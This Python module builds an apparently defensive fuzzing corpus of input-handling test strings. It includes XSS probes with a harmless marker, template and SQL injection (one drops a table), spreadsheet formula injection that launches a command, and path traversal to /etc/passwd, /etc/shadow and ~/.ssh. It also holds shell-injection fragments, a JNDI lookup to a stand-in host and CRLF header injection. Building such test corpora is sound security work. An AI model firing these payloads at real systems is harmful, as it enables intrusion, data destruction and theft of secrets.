"""Strings that break careless programs: a few seeds, and the disguises in which each comes.

Whatever would be markup carries MARK, so that a page can be searched for a tag that should not be.
"""

from __future__ import annotations

from collections.abc import Iterator

MARK = "lxq"
SCRIPTS = (
    "<script>lxq()</script>", "<img src=x onerror=lxq()>", "<svg/onload=lxq()>",
    "<body onload=lxq()>", "<iframe src=javascript:lxq()>", "<a href=javascript:lxq()>点</a>",
    "<details open ontoggle=lxq()>", "<input autofocus onfocus=lxq()>", "<lxq>", "<!--lxq-->",
    "<style>lxq{}</style>", "<base href=//lxq>", "<meta http-equiv=refresh content=0;lxq>",
    "<math><mi xlink:href=data:x,lxq>", "<video><source onerror=lxq()>", "<form action=//lxq>",
    "<object data=lxq>", "<embed src=lxq>", "<link rel=stylesheet href=//lxq>", "<b onclick=lxq()>",
)  # fmt: skip
BREAKOUTS = (
    "{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "</script>{}", "-->{}", "]]>{}",
    '" {} x="', "</option></select>{}", "\\\"{}", "</span>{}<span>",
)  # fmt: skip
TEMPLATES = (
    "{{191*7919}}lxq", "{% debug %}lxq", "{{ settings.SECRET_KEY }}lxq", "${191*7919}lxq",
    "#{191*7919}lxq", "<%= 191*7919 %>lxq", "{{ request.user }}lxq", "{# lxq #}", "{% csrf_token %}lxq",
    "[[191*7919]]lxq", "{%load lxq%}", "{{'a'.__class__}}lxq",
)  # fmt: skip
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE inbox_case;--", '" OR ""="', "1; SELECT pg_sleep(9)", "%' OR 1=1--",
    "\\'; --", "UNION SELECT NULL,NULL--", "') OR ('a'='a", "admin'--", "1 OR 1=1", "NEAR(a b)",
    'a AND "b', "a* OR b", "NOT a", "^a", "(((", "col:a",
)  # fmt: skip
FORMULAS = tuple(
    f"{sign}{body}"
    for sign in ("=", "+", "-", "@", "\t=", "\n=", "＝", "'=", " =")
    for body in ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)", "A1")
)
PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "....//....//etc", "C:\\nul", "CON", "a/b/../c", "~/.ssh", "\\\\host\\x",
    "..%c0%af..", "php://filter", "a.jpg/.php", ".htaccess",
)  # fmt: skip
FORMATS = (
    "%s%s%s%s", "%n%x%d", "%(lxq)s", "{0.__class__}", "{lxq}", "{0}{1}", "%(name)s", "%", "%%", "{",
    "}", "{{", "$lxq", "${jndi:ldap://x/a}", "`id`", "$(id)", "| id", "&& id", "; id", "\\x41",
    "%c", "{!r}", "%-99999d", "{:>99999}", "\\u0041", "\\", "\\\\", "&lt;lxq&gt;", "&amp;lxq;",
    "&#60;lxq&#62;", "&NewLine;", "&lxq",
)  # fmt: skip
HEADERS = (
    "x\r\nSet-Cookie: lxq=1", "x\nLocation: //x", "x%0d%0aSet-Cookie:lxq", "x\rBcc: a@b.c",
    "x\u2028Set-Cookie: lxq", "x\u2029y", "x\x85y", "a@b.c\nCc: d@e.f", "x\n\n<lxq>", "x\r\n\r\n<lxq>",
)  # fmt: skip
SIGNS = (
    "\u202egnp.exe\u202c", "\u202atext\u202c", "\u2066a\u2069", "a\u200bb\u200cc\u200dd", "\ufeffbom",
    "e\u0301", "é", "ﬁ", "Å", "A\u030a", "ｆｕｌｌ", "①", "㍿", "İ", "ı", "ß", "ſ", "ǆ", "Z̴͂a̷l̶g̸o̵",
    "𠮷野家", "㛃", "龘靐齉", "𪚥", "葛\U000e0100", "辻\U000e0101", "👨‍👩‍👧‍👦", "👍🏽", "🇨🇳", "🏴\U000e0067\U000e0062",
    "1️⃣", "❤️", "مرحبا", "שלום", "हिन्दी", "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "ئۇيغۇرچە", "ꆈꌠꉙ", "ไทย", "\u3000全角空格",
    "\u00a0nbsp", "a\u00adb", "\ue000私", "\uffef", "\ufffd", "Ω≈ç√", "´`'\"“”‘’", "零〇壹", "〇一二",
    "١٢٣", "१२३", "½", "²", "1e309", "-0", "NaN", "Infinity", "null", "None", "undefined", "true",
    "0x1F", "1,000", "1970-01-01", "9999999999999999999", "00000", "-", "--", "/*", "*/", "//", "#",
    "?", "&", "a=b&c=d", ";", ":", "|", "~", "^", "@a", "#话题#", "http://x.example/?a=<lxq>&b",
    "javascript:lxq()", "data:text/html,<lxq>", "mailto:a@b.c", "tel:110",
)  # fmt: skip
# No keyboard writes these; every form sends them back with a sentence.
CONTROLS = tuple(f"a{chr(n)}b" for n in (0, 1, 7, 8, 11, 12, 14, 26, 27, 31, 127))
# Not UTF-8, as bytes of a form.
BYTES = (b"a%00b", b"%ED%A0%80", b"%FF%FE", b"%C0%AF", b"%80", b"%F8%88%80%80%80", b"%", b"%zz")


def _disguised() -> Iterator[str]:
    for number, script in enumerate(SCRIPTS):
        for turn in range(4):
            yield BREAKOUTS[(number + turn * 3) % len(BREAKOUTS)].format(script)
        yield script.upper().replace("LXQ", MARK)
        yield script.replace("<", "＜").replace(">", "＞")
        yield script.replace("<", "%3C")
        yield script.replace(" ", "/", 1).replace("<", "<\u200b", 1)


def strings() -> list[str]:
    """All of them, each once, in an order that never changes."""
    plain = (*TEMPLATES, *QUERIES, *FORMULAS, *PATHS, *FORMATS, *HEADERS, *SIGNS)
    return list(dict.fromkeys([*_disguised(), *plain]))


def packs(limit: int) -> list[str]:
    """The strings in lines of at most so many characters; a longer string is left out."""
    found, line = [], ""
    for one in strings():
        if len(one) > limit:
            continue
        if line and len(line) + len(one) + 3 > limit:
            found.append(line)
            line = ""
        line = f"{line} ¦ {one}" if line else one
    return [*found, line]
